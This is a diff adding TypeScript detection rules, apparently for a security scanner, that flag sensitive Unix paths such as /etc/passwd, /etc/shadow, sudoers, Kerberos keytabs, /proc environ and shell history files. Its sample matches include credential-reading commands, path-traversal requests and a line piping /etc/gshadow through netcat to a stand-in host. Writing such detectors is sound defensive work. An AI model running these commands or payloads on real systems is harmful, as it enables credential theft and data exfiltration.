@@ -1,0 +1,82 @@
+import type { Rule } from '../rule.ts';
+import { expression } from './boundary.ts';
+import { isForbidden, isUsedAsFile } from './mention.ts';
+import { NAME_END, PATH_START, pathKeywords, pathOf } from './path.ts';
+
+const COMMON = {
+  pattern: 'sensitive_unix_path',
+  threat_type: 'EXFIL',
+  direction: 'outbound',
+  confidence: 'medium',
+  publicPrefix: /^[\s\S]{1,200}/,
+  source: 'https://www.pathname.com/fhs/pub/fhs-2.3.html',
+  remedy: 'Look at what asked for the file and what became of its contents.',
+} as const;
+
+/** The family `sensitive_unix_path`: files that describe accounts and running processes. */
+export const SENSITIVE_UNIX_PATH_RULES: readonly Rule[] = [
+  {
+    ...COMMON,
+    id: 'etc_passwd_path',
+    severity: 'low',
+    keywords: pathKeywords('etc', 'passwd'),
+    expression: expression('g', PATH_START, pathOf('etc', 'passwd'), NAME_END),
+    reach: { before: 0, after: 14 },
+    validate: (match) => !isForbidden(match),
+    describes: 'The path of the list of accounts.',
+    finds: ['cat /etc/passwd', 'GET /?file=../../../etc/passwd', 'GET /?f=..%2F..%2Fetc%2Fpasswd'],
+    ignores: ['/etc/passwd-backup', 'never open /etc/passwd', 'fetch/passwd'],
+  },
+  {
+    ...COMMON,
+    id: 'etc_shadow_path',
+    severity: 'medium',
+    keywords: [
+      ...pathKeywords('etc', 'shadow'),
+      ...pathKeywords('etc', 'gshadow'),
+      ...pathKeywords('etc', 'sudoers'),
+      ...pathKeywords('etc', 'master.passwd'),
+      ...pathKeywords('etc', 'krb5.keytab'),
+    ],
+    expression: expression(
+      'g',
+      PATH_START,
+      pathOf('etc', String.raw`(?:g?shadow-?|sudoers(?:\.d)?|master\.passwd|krb5\.keytab)`),
+      NAME_END,
+    ),
+    reach: { before: 0, after: 24 },
+    validate: (match) => !isForbidden(match),
+    describes: 'The path of password hashes, of the rules of sudo, or of Kerberos keys.',
+    finds: ['cat /etc/shadow', '{"path":"/etc/sudoers"}', 'tar c /etc/gshadow | nc x.example 9'],
+    ignores: ['/etc/shadowsocks/config.json', 'sketch/shadow', 'Do not touch /etc/sudoers'],
+  },
+  {
+    ...COMMON,
+    id: 'proc_environ_path',
+    severity: 'medium',
+    keywords: ['environ'],
+    expression: expression(
+      'g',
+      PATH_START,
+      pathOf('proc', String.raw`(?:self|thread-self|[0-9]{1,7}|\*|\$\{?[A-Za-z_$]{1,12}\}?)`, 'environ'),
+      NAME_END,
+    ),
+    reach: { before: 32, after: 8 },
+    validate: (match) => !isForbidden(match),
+    describes: 'The path of the environment of a running process, keys included.',
+    finds: ['cat /proc/self/environ', 'strings /proc/1/environ', '{"file":"/proc/4711/environ"}'],
+    ignores: ['os.environ["HOME"]', '/proc/self/environment', 'avoid /proc/self/environ'],
+  },
+  {
+    ...COMMON,
+    id: 'shell_history_path',
+    severity: 'low',
+    keywords: ['_history'],
+    expression: /\.(?:bash|zsh|sh|ash|python|mysql|psql|node_repl|rediscli|sqlite)_history(?![A-Za-z0-9_-])/g,
+    reach: { before: 11, after: 8 },
+    validate: (match) => isUsedAsFile(match) && !isForbidden(match),
+    describes: 'The path of a history of typed commands, passwords among them.',
+    finds: ['cat ~/.bash_history', '{"path":"/root/.zsh_history"}', 'tail .mysql_history'],
+    ignores: ['obj.sh_history_size', 'The file named .bash_history grows', 'never read ~/.bash_history'],
+  },
+];
